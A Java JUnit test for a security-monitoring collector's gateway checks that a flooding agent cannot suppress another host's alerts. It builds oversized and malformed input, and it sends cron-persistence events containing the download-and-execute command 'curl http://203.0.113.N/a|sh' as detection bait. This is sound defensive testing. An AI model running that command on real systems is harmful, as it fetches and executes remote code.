package bzh.vigie.collector.gateway;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import bzh.vigie.collector.IngestFeed;
import bzh.vigie.collector.detect.Detectors;
import bzh.vigie.collector.detect.Pipeline;
import bzh.vigie.collector.detect.Quarantine;
import bzh.vigie.collector.detect.ShippedRules;
import bzh.vigie.collector.detect.finding.Cards;
import bzh.vigie.collector.detect.finding.Ruling;
import bzh.vigie.collector.detect.sigma.CompiledRules;
import bzh.vigie.collector.detect.sigma.RuleSet;
import bzh.vigie.collector.fairness.Resource;
import bzh.vigie.collector.fairness.Resource.Bound;
import bzh.vigie.collector.fairness.Shares;
import bzh.vigie.collector.store.Alerts.Numbered;
import bzh.vigie.collector.store.EventHistory;
import bzh.vigie.collector.store.Scope;
import bzh.vigie.collector.store.lucene.LuceneHistory;
import bzh.vigie.event.Event;
import bzh.vigie.event.Event.Change;
import bzh.vigie.event.Event.ItemSeen;
import bzh.vigie.event.Item;
import bzh.vigie.event.ItemTimes;
import bzh.vigie.event.Moment;
import bzh.vigie.v1.EventBatch;
import bzh.vigie.v1.Hello;
import bzh.vigie.v1.LanePosition;
import bzh.vigie.wire.EventCodec;
import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.nio.ByteBuffer;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;

/** One agent that floods in every resource at once, and another of its commune whose alerts come all the same. Real connections. */
class FloodsTest extends GatewayBench {
    private static final int FLOODED = 100;
    private static final int ROUNDS = 5;

    private Event seen(String name, String value, Item.Trait... traits) {
        Item item = new Item(
                "linux.cron.system",
                List.of("T1053.003"),
                "linux",
                Optional.empty(),
                name,
                value,
                "/etc/cron.d/" + name,
                "",
                Optional.empty(),
                "",
                Item.Signature.NOT_CHECKED,
                "",
                Item.Shipped.UNOWNED,
                true,
                ItemTimes.NONE,
                List.of(),
                "",
                "",
                "",
                "",
                "",
                "",
                "",
                Set.of(traits));
        return new ItemSeen(
                new Moment(clock.instant(), "boot-1", 1), "linux.persistence", Change.ADDED, item, Optional.empty(), 1);
    }

    /** Greets with made-up lanes, sends large items, a foreign word of 4 MB, and the beginning of a frame that never ends. */
    private void flood(Enrolled agent, int turn) throws IOException {
        Hello.Builder hello = hello(agent, turn);
        for (int i = 0; i < 32; i++) {
            hello.addReleased(LanePosition.newBuilder()
                    .setEpoch(run(1_000 + 32 * turn + i))
                    .setLane(1)
                    .setNumber(9));
        }
        try (TestClient client = connect(agent)) {
            client.send(hello);
            client.welcome();
            List<Event> items = new ArrayList<>();
            for (int i = 0; i < FLOODED; i++) {
                items.add(seen("flood-" + turn + "-" + i, "/opt/" + "x".repeat(30_000)));
            }
            client.send(batch(2L * turn + 1, EventCodec.encode(items)));
            EventBatch.Builder foreign =
                    EventBatch.parseFrom(EventCodec.encode(List.of(seen("foreign", "/opt/x")))).toBuilder();
            foreign.getEventsBuilder(0).getItemSeenBuilder().getItemBuilder().setShipped("A".repeat(4_000_000));
            client.send(batch(2L * turn + 2, foreign.build().toByteArray()));
            client.raw(ByteBuffer.allocate(700_000).putInt(1 << 20).array());
        }
    }

    private List<Numbered> alerts() {
        return store.read(session -> session.alerts().after(new Scope.All(), 0, 1_000));
    }

    private boolean isTold(Enrolled agent, String rule) {
        return alerts().stream()
                .anyMatch(each -> each.alert().host().equals(agent.id())
                        && each.alert().rule().equals(rule));
    }

    @Test
    void oneAgentThatFloodsInAllLeavesTheAlertsOfOthersAlone() throws Exception {
        shares = new Shares(Map.of(Resource.ITEM_BYTES, new Bound(4 << 20, Long.MAX_VALUE, 0)), System::nanoTime);
        restart(PATIENT);
        RuleSet rules = ShippedRules.load();
        Ruling ruling = new Ruling(new CompiledRules(rules.rules()), rules.correlations(), rules.onlyCorrelated());
        Cards cards = new Cards(rules.detectors());
        try (EventHistory history = LuceneHistory.open(dir.resolve("history"), 16)) {
            Pipeline pipeline = new Pipeline(
                    new IngestFeed(log),
                    store,
                    history,
                    () -> ruling,
                    cards,
                    Detectors.all(() -> ruling, cards, Duration.ofHours(1), host -> {}),
                    new Quarantine(dir.resolve("quarantine")),
                    shares,
                    ManagementFactory.getThreadMXBean()::getCurrentThreadCpuTime,
                    clock);
            Thread detection = Thread.ofPlatform().start(() -> {
                try {
                    pipeline.run();
                } catch (InterruptedException e) {
                    Thread.currentThread().interrupt();
                }
            });
            Enrolled hostile = enrolled("hostile-pc");
            Enrolled victim = enrolled("mairie-2");
            Thread flooding = Thread.ofPlatform().start(() -> {
                for (int turn = 0; turn < 40 && !Thread.interrupted(); turn++) {
                    try {
                        flood(hostile, turn);
                    } catch (IOException | AssertionError e) {
                        // It was sent away, which is what it is sent for.
                        assertFalse(String.valueOf(e.getMessage()).isEmpty());
                    }
                }
            });
            try (TestClient client = open(victim, 1)) {
                for (int round = 1; round <= ROUNDS; round++) {
                    int before = (int) alerts().stream()
                            .filter(each -> each.alert().host().equals(victim.id()))
                            .count();
                    client.send(batch(
                            round,
                            EventCodec.encode(List.of(seen(
                                    "victim-" + round,
                                    "curl http://203.0.113." + round + "/a|sh",
                                    Item.Trait.NETWORK_TOOL,
                                    Item.Trait.INLINE_SCRIPT)))));
                    client.acknowledged();
                    assertSoon(() -> alerts().stream()
                                    .filter(each -> each.alert().host().equals(victim.id()))
                                    .count()
                            > before);
                }
                // Its second batch of items is over its share of bytes.
                assertSoon(() -> store.read(session -> session.inventories().at(hostile.id(), clock.instant()))
                                .size()
                        > FLOODED);
            } finally {
                flooding.interrupt();
                flooding.join();
                pipeline.close();
                detection.join();
            }
            pipeline.tick(clock.instant());
            assertTrue(isTold(hostile, "vigie-host-floods"), () -> alerts().toString());
            assertFalse(isTold(victim, "vigie-host-floods"));
            assertFalse(isTold(victim, "vigie-events-lost"));
            long stored = dir.resolve("store").resolve("state.db").toFile().length();
            assertTrue(stored > 0 && stored < 40 << 20, stored + " bytes");
        }
    }
}
